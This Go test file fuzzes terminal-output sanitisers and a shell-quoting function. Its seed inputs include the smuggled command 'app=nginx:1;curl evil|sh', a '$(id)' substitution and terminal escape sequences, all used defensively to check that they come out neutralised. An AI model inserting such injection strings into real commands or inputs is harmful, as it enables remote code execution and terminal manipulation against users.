package text

import (
	"strings"
	"testing"
	"unicode/utf8"
)

// FuzzForTerminal checks ForTerminal's promise: whatever the input, the
// output is valid UTF-8 of bounded length with no ESC, no C0 or C1 control
// other than line feed and tab, and no bidirectional control. The corpus
// is in testdata/fuzz/FuzzForTerminal.
func FuzzForTerminal(f *testing.F) {
	for _, s := range []string{clearScr, osc8, oscTitle, bidi, injection, "a\u009b2Jb", "\x1b]0;t\x1b[2Jx"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, in string) {
		for name, out := range map[string]string{"ForTerminal": ForTerminal(in), "OneLine": OneLine(in)} {
			if !utf8.ValidString(out) {
				t.Fatalf("%s(%q) = %q: invalid UTF-8", name, in, out)
			}
			if len(out) > MaxTerminal {
				t.Fatalf("%s(%q): %d bytes, more than %d", name, in, len(out), MaxTerminal)
			}
			for _, r := range out {
				if (r < 0x20 && r != '\n' && r != '\t') || (r >= 0x7f && r <= 0x9f) || isControl(r) && r != '\n' && r != '\t' {
					t.Fatalf("%s(%q) = %q: contains control %U", name, in, out, r)
				}
			}
			if name == "OneLine" && strings.ContainsAny(out, "\n\t") {
				t.Fatalf("OneLine(%q) = %q: not one line", in, out)
			}
		}
	})
}

// FuzzShellQuote checks that a quoted command line never carries a raw
// control character, escape, bidi control or invalid UTF-8 (it shows
// them as $'\x..' escapes), and that an argument with anything a shell
// interprets is quoted. TestShellQuoteRunsAsShown has bash parse it back.
func FuzzShellQuote(f *testing.F) {
	for _, s := range []string{"app=nginx:1;curl evil|sh", "$(id)", "it's", "", "a\x1b[2Jb", "x\u202ey", "\xff"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, arg string) {
		out := ShellQuote(arg)
		if !utf8.ValidString(out) {
			t.Fatalf("ShellQuote(%q) = %q: invalid UTF-8", arg, out)
		}
		for _, r := range out {
			if r < 0x20 || (r >= 0x7f && r <= 0x9f) || isControl(r) {
				t.Fatalf("ShellQuote(%q) = %q: contains control %U", arg, out, r)
			}
		}
		if strings.ContainsAny(arg, " \t\n;&|<>()$`\\\"'*?[]#~=%!{}") && !strings.HasPrefix(out, "'") && !strings.HasPrefix(out, "$'") &&
			!(bare(arg) && arg != "") {
			t.Fatalf("ShellQuote(%q) = %q: not quoted", arg, out)
		}
	})
}
